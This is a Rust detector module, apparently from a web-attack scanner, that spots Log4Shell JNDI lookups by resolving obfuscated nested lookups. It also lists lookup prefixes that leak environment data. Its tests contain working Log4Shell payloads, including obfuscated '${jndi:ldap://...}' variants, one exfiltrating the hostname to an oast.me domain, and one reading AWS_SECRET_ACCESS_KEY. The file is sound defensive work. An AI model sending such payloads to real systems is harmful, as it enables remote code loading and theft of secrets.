//! Log4Shell-style lookups (`${jndi:ldap://..}`) with their obfuscations: nested lookups that
//! evaluate to letters (`${lower:J}`, `${upper:n}`, `${::-d}`, `${env:X:-i}`,
//! `${date:'j'}`), resolved innermost first, as Log4j does, within a bounded window.

use super::ascii::find;
use super::{AttackClass, Finding};

/// Bytes after a `${` resolved.
const WINDOW: usize = 1024;
/// Lookups resolved per window.
const MAX_LOOKUPS: usize = 64;
/// Windows resolved per value: `${${${...` must not cost a window per `${`.
const MAX_WINDOWS: usize = 64;

/// Judge one value for lookups.
pub(crate) fn detect(value: &str, findings: &mut Vec<Finding>) {
    let b = value.as_bytes();
    let mut from = 0;
    let mut windows = 0;
    while let Some(rel) = b.get(from..).and_then(|s| find(s, b"${")) {
        windows += 1;
        if windows > MAX_WINDOWS {
            return;
        }
        let start = from + rel;
        let end = (start + WINDOW).min(b.len());
        if let Some((rule, score)) = resolve(b.get(start..end).unwrap_or(b"")) {
            findings.push(Finding {
                class: AttackClass::Log4Shell,
                rule,
                score,
                span: start..end,
            });
            return;
        }
        // The lookups nested in the first half of this window were resolved with it.
        from = start + WINDOW / 2;
    }
}

/// Lookup prefixes that read the environment or the JVM (exfiltration in a DNS name).
fn leaking(prefix: &[u8]) -> bool {
    matches!(
        prefix,
        b"env"
            | b"sys"
            | b"java"
            | b"ctx"
            | b"main"
            | b"bundle"
            | b"docker"
            | b"k8s"
            | b"kubernetes"
            | b"spring"
            | b"web"
            | b"log4j"
            | b"jvmrunargs"
            | b"sd"
            | b"map"
            | b"event"
            | b"marker"
            | b"base64"
            | b"hostname"
    )
}

/// Resolve the lookups of `text` (which starts with `${`) innermost first.
fn resolve(text: &[u8]) -> Option<(&'static str, u16)> {
    let mut s: Vec<u8> = text.to_vec();
    for _ in 0..MAX_LOOKUPS {
        // The innermost lookup: the last `${` before the first `}` that follows it.
        let close = memchr::memchr(b'}', &s)?;
        let open = memchr::memmem::rfind(s.get(..close)?, b"${")?;
        let inner: Vec<u8> = s.get(open + 2..close)?.to_vec();
        let lower = inner.to_ascii_lowercase();
        let (prefix, rest) = match memchr::memchr(b':', &lower) {
            Some(i) => (lower.get(..i)?, inner.get(i + 1..)?),
            None => (&lower[..], &b""[..]),
        };
        let prefix: Vec<u8> = prefix
            .iter()
            .copied()
            .filter(|b| !b.is_ascii_whitespace())
            .collect();
        if prefix == b"jndi" {
            return Some(("log4shell.jndi", 5));
        }
        // `${anything:-default}` evaluates to its default when the lookup is empty.
        let replacement: Vec<u8> = if let Some(i) = find(&inner, b":-") {
            inner.get(i + 2..)?.to_vec()
        } else if prefix == b"lower" || prefix == b"upper" {
            rest.to_vec()
        } else if prefix == b"date" {
            rest.iter().copied().filter(|b| *b != b'\'').collect()
        } else if leaking(&prefix) && !rest.is_empty() {
            return Some(("log4shell.lookup", 5));
        } else {
            Vec::new()
        };
        let mut next = s.get(..open)?.to_vec();
        next.extend_from_slice(&replacement);
        next.extend_from_slice(s.get(close + 1..)?);
        s = next;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(value: &str) -> u16 {
        let mut f = Vec::new();
        detect(value, &mut f);
        f.iter().map(|f| f.score).max().unwrap_or(0)
    }

    #[test]
    fn lookups_and_their_obfuscations() {
        for a in [
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x}",
            "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}",
            "${${upper:j}${lower:N}di:dns://x}",
            "${jndi:ldap://${hostName}.oast.me/a}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${${date:'j'}ndi:ldap://x}",
            "${ jndi:ldap://x}",
        ] {
            assert_eq!(score(a), 5, "missed: {a}");
        }
        for b in [
            "${name}",
            "cost ${total} USD",
            "${7*7}",
            "$ {jndi}",
            "{jndi:x}",
        ] {
            assert_eq!(score(b), 0, "false positive: {b}");
        }
    }
}
